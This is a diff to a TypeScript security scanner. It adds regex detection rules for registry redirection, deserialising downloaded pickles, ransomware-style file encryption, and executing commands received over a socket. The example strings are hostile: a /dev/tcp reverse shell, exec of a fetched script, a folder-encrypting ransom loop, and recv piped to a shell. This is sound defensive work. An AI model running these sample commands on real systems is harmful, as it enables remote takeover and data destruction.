@@ -57,6 +57,30 @@ function* findSavedAndRun(file: FileView): Generator<Match> {
   }
 }
 
+/** Registries that package managers use by themselves, and their known copies. */
+const KNOWN_REGISTRY =
+  /^["']?(?:sparse\+)?https?:\/\/(?:[\w.-]+@)?(?:registry\.(?:npmjs\.org|yarnpkg\.com|npmmirror\.com)|(?:[\w-]+\.)?pypi\.org|files\.pythonhosted\.org|(?:index|static)\.crates\.io|rubygems\.org|proxy\.golang\.org|repo1?\.maven\.(?:apache\.)?org|maven\.google\.com|npm\.pkg\.github\.com|npm\.jsr\.io|download\.pytorch\.org|pypi\.nvidia\.com|pypi\.tuna\.tsinghua\.edu\.cn|mirrors\.(?:aliyun\.com|cloud\.tencent\.com)|goproxy\.(?:cn|io)|localhost|127\.0\.0\.1|\[::1\])(?=[/:"'\s,]|$)/i
+/** Commands, variables and settings by which a package manager is sent to another registry; the address is the group. */
+const REGISTRY =
+  /\b(?:npm|pnpm|yarn|bun)["']?\s+(?:-\S+\s+){0,3}config\s+(?:-\S+\s+){0,2}set\s+["']?(?:@[\w.-]{1,60}:)?(?:registry|npmRegistryServer)["']?[\s=]+(["']?https?:\S{4,200})|\bpip3?\s+(?:-\S+\s+){0,3}config\s+(?:-\S+\s+){0,2}set\s+\S{0,40}index-url\s[^\n]{0,40}?(["']?https?:\S{4,200})|\bpoetry\s+(?:source\s+add|config\s+repositories\.)[^\n]{0,80}?\s(["']?https?:\S{4,200})|\b(?:gem\s+sources?\s+(?:-a|--add)|bundle\s+config\s+(?:set\s+)?(?:--\S+\s+)?mirror\.\S{1,80}|conda\s+config\s+--(?:add|prepend|append)\s+channels|go\s+env\s+-w\s+GOPROXY=)\s*(["']?https?:\S{4,200})|\b(?:NPM_CONFIG_REGISTRY|YARN_(?:NPM_REGISTRY_SERVER|REGISTRY)|BUN_CONFIG_REGISTRY|PIP_(?:EXTRA_)?INDEX_URL|UV_(?:DEFAULT_|EXTRA_)?INDEX(?:_URL)?|CARGO_REGISTRIES_\w{1,40}_INDEX|GOPROXY)["']?\]?\s*[=:]\s*(["']?(?:sparse\+)?https?:\S{4,200})|^\s*["']?(?:@[\w.-]{1,60}:)?registry["']?\s*[=\s]\s*(["']?https?:\S{4,200})|\bnpmRegistryServer["']?\s*:\s*(?:[>|]-?\s+)?(["']?https?:\S{4,200})|^\s*(?:extra-)?index-url\s*[=:]\s*(https?:\S{4,200})|\[\[(?:tool\.(?:uv\.index|poetry\.source|pdm\.source)|index)\]\][^[]{0,400}?\burl\s*=\s*(["']https?:\S{4,200})|\[(?:registries|source)\.[\w-]{1,40}\][^[]{0,300}?\b(?:index|registry)\s*=\s*(["'](?:sparse\+)?https?:\S{4,200})|<mirrorOf>[\s\S]{0,300}?<url>\s*(https?:[^<\s]{4,200})/gim
+
+function* findRegistries(file: FileView): Generator<Match> {
+  if (!/registr|index[-_]url|uv\.index|\[\[index|_index\b|goproxy|mirror|poetry[.\s]|channels|gem\s+source/i.test(file.text)) return
+  for (const { at, length, match } of file.search(REGISTRY)) {
+    const address = match.slice(1).find((group) => group !== undefined) ?? ''
+    const line = file.lines[file.placeOf(at).line - 1] ?? ''
+    // What is only printed or searched for sets nothing.
+    const isSaid = /^\s*(?:echo|printf|grep|rg)\b[^|>]*$/.test(line)
+    if (!isSaid && !KNOWN_REGISTRY.test(address)) yield { at, length }
+  }
+}
+
+/** Goes through the files of a folder; writes one back, or removes it. */
+const GOES_THROUGH =
+  /\b(?:rglob|os\.walk|walkdir|iglob|glob\.glob|readdirSync|os\.scandir|Get-ChildItem\b[^\n]{0,80}-Recurse|find\s\S{1,80}\s[^\n]{0,80}-exec)\b/i
+const REPLACES =
+  /\b\w{1,40}\.write_bytes\(|\bopen\(\s*\w{1,40}\s*,\s*["']wb["']|\bwriteFileSync\(\s*\w{1,40}\s*,|\b(?:os\.(?:remove|unlink)|\w{1,40}\.unlink|unlinkSync|shred)\b/
+
 /** Commands that bring in what nobody reviewed, and what stays or destroys. */
 export const COMMAND_RULES: readonly Rule[] = [
   {
@@ -127,9 +151,13 @@ export const COMMAND_RULES: readonly Rule[] = [
       'net::http',
       'https.get',
       'get(',
+      'pickle',
+      'marshal',
+      'dill',
+      'cloudpickle',
     ],
     pattern:
-      /\b(?:exec|eval|compile|Function|loadstring|instance_eval|runInNewContext|runInThisContext|execSync|os\.system)\s*\(?\s*[^\n]{0,120}\b(?:urlopen|requests\.get|fetch\s*\(|urllib|httpx\.get|https?\.get\(|URI\.open|Net::HTTP|axios)[^\n]{0,120}|\b(?:fetch|axios\.get|requests\.get|https?\.get)\s*\([^\n]{0,200}(?:\.then\(\s*(?:eval|\w+\s*=>\s*(?:eval|new Function|Function)\b)|\)\.text\s*,\s*(?:globals|dict)|\beval\b)[^\n]{0,80}|\bimport\s*\(\s*["'`](?:https?:|data:)[^\n]{0,160}/gi,
+      /\b(?:exec|eval|compile|Function|loadstring|instance_eval|runInNewContext|runInThisContext|execSync|os\.system)\s*\(?\s*[^\n]{0,120}\b(?:urlopen|requests\.get|fetch\s*\(|urllib|httpx\.get|https?\.get\(|URI\.open|Net::HTTP|axios)[^\n]{0,120}|\b(?:fetch|axios\.get|requests\.get|https?\.get)\s*\([^\n]{0,200}(?:\.then\(\s*(?:eval|\w+\s*=>\s*(?:eval|new Function|Function)\b)|\)\.text\s*,\s*(?:globals|dict)|\beval\b)[^\n]{0,80}|\bimport\s*\(\s*["'`](?:https?:|data:)[^\n]{0,160}|\b(?:pickle|marshal|dill|cloudpickle)\.loads?\s*\(\s*(?:io\.BytesIO\(\s*)?(?:\w{1,40}\.(?:content|raw|data|read\(\))|requests\.get|urlopen|await\s+\w{1,40}\.read)[^\n]{0,80}/gi,
     example: { file: 'a.py', text: 'exec(urlopen("https://example.com/a.py").read())' },
   },
   {
@@ -186,11 +214,26 @@ export const COMMAND_RULES: readonly Rule[] = [
           /(?:github\.com|gitlab\.com|codeberg\.org|pypi\.org|registry\.npmjs\.org|localhost|127\.0\.0\.1|bitbucket\.org|download\.pytorch\.org|pypi\.tuna\.tsinghua|npmmirror\.com|\bgo\b.{0,20}golang\.org)/i.test(
             found,
           )
-        if (!/\s-e\s+\.|\s-e\s+\S+=/.test(found) && /:\/\/|git\+|trusted-host/.test(found))
-          yield { at, length, ...(isKnown && { severity: 'low' as const }) }
+        // Settings are looked at as such. The package itself comes from there, and runs as it is installed: as grave as a script piped to a shell.
+        const isSetting = /\bconfig\s/.test(found)
+        const isItself =
+          /\s(?:install|add|i|exec|dlx|x)\s(?![^\n]*(?:index-url|--registry|trusted-host|\s-i\s))(?:[^\n]*\s)?["']?https?:/.test(found)
+        if (!isSetting && !/\s-e\s+\.|\s-e\s+\S+=/.test(found) && /:\/\/|git\+|trusted-host/.test(found))
+          yield { at, length, severity: isKnown ? 'low' : isItself ? 'high' : 'medium' }
       }
     },
     example: '```sh\npip install https://example.com/tool.tar.gz\n```',
+  },
+  {
+    id: 'download/other-registry',
+    severity: 'medium',
+    owasp: 'AST02',
+    weight: 'command',
+    title: 'Sends a package manager to another registry',
+    why: 'Every later installation comes from there, under the names of packages that people trust.',
+    fix: 'Leave the registry as it is, or let the user set it.',
+    find: findRegistries,
+    example: { file: 'a.sh', text: 'npm config set registry https://packages.example.net/' },
   },
   {
     id: 'download/install-hook',
@@ -386,8 +429,65 @@ export const COMMAND_RULES: readonly Rule[] = [
       'ssh -fnr',
     ],
     pattern:
-      /(?:>>?|\btee\b|append|write|open\(|cp |cat |echo )[^\n]{0,300}authorized_keys|\/dev\/(?:tcp|udp)\/[^\s/]{1,80}\/\S{1,20}|\b(?:nc|ncat|netcat)\b[^\n]{0,60}\s-(?:\w{0,4}[ec]\w{0,3}|-exec|-sh-exec)\s[^\n]{0,60}|\bmkfifo\b[^\n]{0,120}\b(?:nc|ncat|telnet|openssl)\b|\bsocat\b[^\n]{0,120}\bexec:[^\n]{0,60}|\bos\.dup2\s*\(|\bpty\.spawn\s*\(|\bnet\s+localgroup\s+administrators\s+\S+\s+\/add|\buseradd\b[^\n]{0,100}(?:-o\s+-u\s*0|sudo|wheel)|\bssh\s+-\w{0,4}R\s?\S{3,80}|NOPASSWD\s*:\s*ALL|\b(?:TCPSocket|TcpClient|net\.connect|net\.Socket)\b[^\n]{0,200}\b(?:exec|spawn|sh\b|cmd|stdin|stream|IEX|iex)\b/gi,
+      /(?:>>?|\btee\b|append|write|open\(|cp |cat |echo )[^\n]{0,300}authorized_keys|\/dev\/(?:tcp|udp)\/[^\s/]{1,80}\/\S{1,20}|\b(?:nc|ncat|netcat)\b[^\n]{0,60}\s-(?:\w{0,4}[ec]\w{0,3}|-exec|-sh-exec)\s[^\n]{0,60}|\bmkfifo\b[^\n]{0,120}\b(?:nc|ncat|telnet|openssl)\b|\bsocat\b[^\n]{0,120}\bexec:[^\n]{0,60}|\bos\.dup2\s*\(|\bpty\.spawn\s*\(|\bnet\s+localgroup\s+administrators\s+\S+\s+\/add|\buseradd\b[^\n]{0,100}(?:-o\s+-u\s*0|sudo|wheel)|\bssh\s+-\w{0,4}R\s?\S{3,80}|NOPASSWD\s*:\s*ALL|\b(?:subprocess\.\w{2,14}|os\.(?:system|popen)|exec|eval|execSync)\(\s*[^\n)]{0,40}\brecv\([^\n]{0,60}|\b(?:TCPSocket|TcpClient|net\.connect|net\.Socket)\b[^\n]{0,200}\b(?:exec|spawn|sh\b|cmd|stdin|stream|IEX|iex)\b/gi,
     example: '```sh\nbash -i >& /dev/tcp/192.0.2.7/9001 0>&1\n```',
+  },
+  {
+    id: 'destruction/encrypts-files',
+    severity: 'high',
+    owasp: 'AST01',
+    weight: 'command',
+    title: 'Encrypts files in their place',
+    why: 'The program goes through a folder and writes its files back encrypted, as ransomware does.',
+    fix: 'Write encrypted copies next to the files that the user named.',
+    needs: ['encrypt', 'fernet', 'aes', 'cipher', 'ciphertext', 'createcipheriv', 'openssl', 'gpg'],
+    find: function* (file) {
+      if (!GOES_THROUGH.test(file.text)) return
+      const isDemand =
+        /\b(?:ransom\w*|bitcoin|btc|monero|pay\w{0,6}\b[^\n]{0,40}\b(?:recover|restore|decrypt|unlock)|(?:recover|decrypt|unlock)\b[^\n]{0,40}\bpay)/i.test(
+          file.text,
+        )
+      if (!isDemand && !/\.(?:encrypted|locked|enc|crypt)["']/.test(file.text)) return
+      for (const { at, length } of file.search(
+        /\b(?:encrypt\w{0,20}|Fernet|AES|createCipheriv)\s?[.(]|\bopenssl\s+enc\b|\bgpg\s[^\n]{0,80}(?:-c|--symmetric)\b/g,
+        this.needs,
+      ))
+        if (isDemand) yield { at, length }
+        else if (REPLACES.test(file.text.slice(at, at + 600))) yield { at, length, severity: 'medium' }
+    },
+    example: {
+      file: 'a.py',
+      text: 'for f in Path("/srv").rglob("*"):\n    f.write_bytes(encrypt(f.read_bytes()))\nnote.write_text("Pay 1 BTC to recover")',
+    },
+  },
+  {
+    id: 'persistence/remote-commands',
+    severity: 'high',
+    owasp: 'AST01',
+    weight: 'command',
+    title: 'Runs what another machine sends',
+    why: 'Whoever is at the other end of the connection runs commands here.',
+    fix: 'Remove it.',
+    needs: ['recv', 'recvfrom', 'readline', 'onmessage', 'data', 'message'],
+    find: function* (file) {
+      for (const { at, length, match } of file.search(
+        /\b(\w{1,40})\s*=\s*(?:await\s+)?\w{1,40}\.(?:recv|recvfrom|receive|recv_string)\([^\n]{0,60}|\.on\(\s*["'](?:data|message)["']\s*,\s*(?:async\s*)?(?:function\s*)?\(?(\w{1,40})\)?[^\n]{0,20}/g,
+        this.needs,
+      )) {
+        const name = match[1] ?? match[2] ?? ''
+        const after = file.text
+          .slice(at, at + 600)
+          .split('\n', LINES_AFTER)
+          .join('\n')
+        if (
+          new RegExp(
+            `(?:\\b(?:subprocess\\.\\w{2,14}|os\\.(?:system|popen)|execSync|spawn)|(?<![\\w.])(?:exec|eval))\\(\\s*(?:\\[[^\\]\\n]{0,60}|String\\()?${name}\\b`,
+          ).test(after)
+        )
+          yield { at, length }
+      }
+    },
+    example: { file: 'a.py', text: 'command = s.recv(1024).decode()\nsubprocess.check_output(command, shell=True)' },
   },
   {
     id: 'destruction/deletes',
